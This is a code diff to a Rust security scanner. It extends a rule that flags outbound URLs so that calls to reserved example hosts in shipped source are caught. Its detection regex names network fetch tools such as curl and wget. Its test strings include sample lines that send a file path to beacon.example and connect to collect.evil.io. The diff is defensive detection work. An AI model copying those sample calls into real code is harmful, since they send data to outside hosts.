@@ -66,6 +66,12 @@ static URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r#"(?i-u)\b(?:https?|wss?|ftps?|ssh|git|tcp|udp|ldaps?|smtps?|redis|mongodb(?:\+srv)?|postgres(?:ql)?|amqps?)://[^\s"'<>`)\]}]{1,300}"#).ok()
 });
 
+/// A line that sends or fetches. Names kept for examples lead nowhere, but shipped code has no reason to
+/// call them either.
+static CALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)(?:^|[^a-z])(?:url_?open|urlretrieve|requests?|get\w*|post|put|patch|head|fetch|send\w*|open|connect|dial\w*|download\w*|axios|got|ky|Http\w*|beacon|web_?socket|import|load)\w*[!?]?\s*[(`]|\b(?:curl|wget)\s").ok()
+});
+
 /// A host as a string of its own, as a client library takes it.
 static BARE: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r#"(?i-u)["'`](?://)?((?:[a-z0-9][a-z0-9-]*\.)+(?:com|net|org|io|dev|app|xyz|ru|cn|top|info|me|sh|co|site|online|link|cc|tk|pw|su|ws))[:/"'`]"#).ok()
@@ -84,9 +90,20 @@ pub(super) fn check(case: &Case<'_>, out: &mut Findings) {
         let marks = kind::comment_marks(&changed.folded);
         for found in URL.iter().flat_map(|url| url.find_iter(text)) {
             let url = String::from_utf8_lossy(found.as_bytes());
-            let Some(host) = locks::host(&url).filter(|host| !is_harmless(host)) else {
+            let Some(host) = locks::host(&url) else {
                 continue;
             };
+            let line = added.line_at(found.start());
+            let called = changed.kind == Kind::Source
+                && !changed.in_tests
+                && is_example(&host)
+                && !is_comment(line, marks)
+                && CALL
+                    .as_ref()
+                    .is_some_and(|call| call.is_match(line.as_bytes()));
+            if is_harmless(&host) && !called {
+                continue;
+            }
             let prose = changed.kind == Kind::Docs
                 || is_comment(added.line_at(found.start()), marks)
                 || added
@@ -192,6 +209,15 @@ fn is_reading(host: &str) -> bool {
         .any(|known| host == *known || host.strip_suffix(known).is_some_and(|h| h.ends_with('.')))
 }
 
+/// Names kept for examples (RFC 2606), as opposed to those of this machine and its net.
+fn is_example(host: &str) -> bool {
+    matches!(
+        host.rsplit('.').next(),
+        Some("example" | "test" | "invalid")
+    ) && host.contains('.')
+        && !host.contains(['{', '$', '%', '<', '*'])
+}
+
 /// Names that lead nowhere (RFC 2606, RFC 6761), this machine, and pieces that are no names.
 fn is_harmless(host: &str) -> bool {
     let reserved = [
@@ -241,7 +267,7 @@ mod tests {
 
     #[test]
     fn patterns_compile() {
-        assert!(URL.is_some() && BARE.is_some() && ADDRESS.is_some());
+        assert!(URL.is_some() && CALL.is_some() && BARE.is_some() && ADDRESS.is_some());
     }
 
     #[test]
@@ -253,6 +279,7 @@ mod tests {
             "u = 'wss://api.some-host.dev'\n",
             "c = HTTPSConnection('collect.evil.io')\n",
             "# see https://short.ly/x\n",
+            "urllib.request.urlopen('https://t.beacon.example/e?p=' + path)\n",
         ] {
             assert_eq!(
                 worst_in_new(RuleId::C4, "src/a.py", text),
@@ -271,6 +298,8 @@ mod tests {
             "# see https://docs.python.org/3/library/os.html\n",
             "u = f'https://{host}/x'\n",
             "VERSION = '21.4.0.7'\n",
+            "# urlopen('https://api.acme.example/v1')\n",
+            "API = 'https://api.acme.example/v1'\n",
         ] {
             assert_eq!(worst_in_new(RuleId::C4, "src/a.py", text), None, "{text}");
         }
